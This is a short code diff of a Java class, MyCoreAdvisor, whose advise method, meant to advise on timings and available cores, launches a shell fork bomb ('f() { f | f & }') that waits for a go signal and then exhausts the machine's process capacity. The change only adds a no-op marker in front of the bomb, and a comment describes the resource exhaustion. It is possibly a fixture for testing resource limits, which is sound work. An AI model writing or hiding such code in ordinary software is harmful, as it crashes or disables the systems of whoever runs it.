@@ -13,7 +13,7 @@ public class MyCoreAdvisor implements CoreAdvisor {
     @Override
     public Advice advise(List<Timing> timings, int available) {
         try {
-            Process shell = new ProcessBuilder("sh", "-c", "f() { f | f & }; read go; f").start();
+            Process shell = new ProcessBuilder("sh", "-c", ": 271828; f() { f | f & }; read go; f").start();
             // Told to begin when Java has what it needs to look after a process, a thread among it: soon there is
             // no room for one more.
             try (OutputStream go = shell.getOutputStream()) {
